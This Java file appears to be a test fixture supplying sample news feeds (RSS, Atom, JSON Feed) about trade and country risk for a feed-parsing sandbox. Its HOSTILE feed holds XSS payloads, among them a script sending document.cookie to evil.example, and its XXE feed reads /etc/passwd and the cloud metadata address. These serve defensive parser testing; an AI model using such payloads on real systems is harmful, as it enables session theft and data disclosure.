package cn.portcover.infra.sandbox.feed;

import cn.portcover.domain.Sha256;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.Map;

/** What the feeds say. */
public final class FeedTexts {
  /** A file that articles link to. */
  public static final String REPORT_NAME = "industry-report.pdf";

  static final String RSS =
      """
      <?xml version="1.0" encoding="UTF-8"?>
      <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
      <title>国别风险速览</title><link>https://news.example/alerts</link><description>演示信息源</description>
      <item><guid isPermaLink="false">alert-1</guid><title>土耳其里拉再度贬值，进口商付汇困难</title>
        <link>https://news.example/alerts/1</link><category>土耳其</category><pubDate>Mon, 02 Nov 2026 08:00:00 GMT</pubDate>
        <content:encoded><![CDATA[<p>里拉对美元汇率<b>再创新低</b>，部分银行推迟开证。</p><ul><li>缩短账期</li><li>关注开证行</li></ul>]]></content:encoded></item>
      <item><guid isPermaLink="false">alert-2</guid><title>巴西上调部分工业品进口关税</title>
        <link>https://news.example/alerts/2</link><category>Brazil</category><pubDate>Tue, 03 Nov 2026 08:00:00 GMT</pubDate>
        <description>&lt;p&gt;税率上调至 35%，&lt;a href="https://news.example/decree"&gt;法令全文&lt;/a&gt;。&lt;/p&gt;</description></item>
      <item><guid isPermaLink="false">alert-3</guid><title>德国企业破产数量连续三个季度上升</title>
        <link>https://news.example/alerts/3</link><category>DEU</category><pubDate>Wed, 04 Nov 2026 08:00:00 GMT</pubDate>
        <description>中小进口商尤为突出。</description></item>
      </channel></rss>
      """;

  static final String SLOW_RSS =
      RSS.replace("alert-", "slow-").replace("国别风险速览", "慢速信息源").replace("，", "，据悉");

  static final String ATOM =
      """
      <?xml version="1.0" encoding="UTF-8"?>
      <feed xmlns="http://www.w3.org/2005/Atom"><id>urn:news:belt</id><title>一带一路专报</title>
      <updated>2026-11-05T08:00:00Z</updated>
      <entry><id>urn:news:belt:1</id><title>中亚班列运价与通关时效周报</title><updated>2026-11-05T08:00:00Z</updated>
        <link href="https://news.example/belt/1"/><category term="哈萨克斯坦"/>
        <content type="html">&lt;h2&gt;通关&lt;/h2&gt;&lt;p&gt;霍尔果斯口岸平均等待 2 天。&lt;/p&gt;</content></entry>
      <entry><id>urn:news:belt:2</id><title type="text">印度尼西亚调整 B&amp;C 类保税监管</title><updated>2026-11-06T08:00:00Z</updated>
        <link href="https://news.example/belt/2"/><category term="IDN"/>
        <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>新规自明年起施行。</p></div></content></entry>
      </feed>
      """;

  static final String JSON =
      """
      {"version": "https://jsonfeed.org/version/1.1", "title": "国际贸易和投资要闻", "items": [
        {"id": "trade-1", "title": "RCEP 原产地证书网上核查扩大试点", "url": "https://news.example/trade/1",
         "date_published": "2026-11-07T08:00:00+08:00", "content_html": "<p>新增 <em>3</em> 个成员。</p>"},
        {"id": "trade-2", "title": "海运集装箱运价指数环比下降", "url": "https://news.example/trade/2",
         "date_published": "2026-11-08T08:00:00+08:00", "content_text": "远东至欧洲航线下降 < 5%。"}]}
      """;

  static final String BROKEN = RSS.substring(0, RSS.length() * 2 / 3);

  static final String HOSTILE =
      """
      <?xml version="1.0" encoding="UTF-8"?>
      <rss version="2.0"><channel><title>x</title><link>https://evil.example</link><description>x</description>
      <item><guid isPermaLink="false">hostile-1</guid><title>&lt;script&gt;alert(1)&lt;/script&gt;来历不明的重点行业消息</title>
        <link>javascript:alert(1)</link><pubDate>Wed, 04 Nov 2099 08:00:00 GMT</pubDate>
        <description><![CDATA[<p onclick="alert(1)">可读的文字</p><script>fetch('https://evil.example/'+document.cookie)</script>
          <img src=x onerror=alert(1)><a href="javascript:alert(1)">点这里</a><iframe src="https://evil.example"></iframe>
          <svg/onload=alert(1)><form action="https://evil.example"><input name=p></form>]]></description></item>
      </channel></rss>
      """;

  static final String XXE =
      """
      <?xml version="1.0" encoding="UTF-8"?>
      <!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY out SYSTEM "http://169.254.169.254/latest/">]>
      <rss version="2.0"><channel><title>x</title><link>https://evil.example</link><description>x</description>
      <item><guid>xxe-1</guid><title>&secret;</title><description>&out;</description></item></channel></rss>
      """;

  static final String ENDLESS = "<!-- " + "x".repeat(60_000) + " -->\n";

  private FeedTexts() {}

  static byte[] report() {
    return """
    %PDF-1.7
    % A report on an industry, made up
    1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj
    2 0 obj <</Type/Pages/Kids[]/Count 0>> endobj
    trailer <</Root 1 0 R>>
    %%EOF
    """
        .getBytes(StandardCharsets.US_ASCII);
  }

  /**
   * The report as messages link to it.
   *
   * @param sandbox where it is served
   */
  public static Map<String, Object> reportAt(URI sandbox) {
    byte[] content = report();
    return Map.of(
        "name",
        "重点行业分析.pdf",
        "mediaType",
        "application/pdf",
        "size",
        content.length,
        "sha256",
        Sha256.of(content).value(),
        "url",
        sandbox.resolve("/files/" + REPORT_NAME).toString());
  }
}
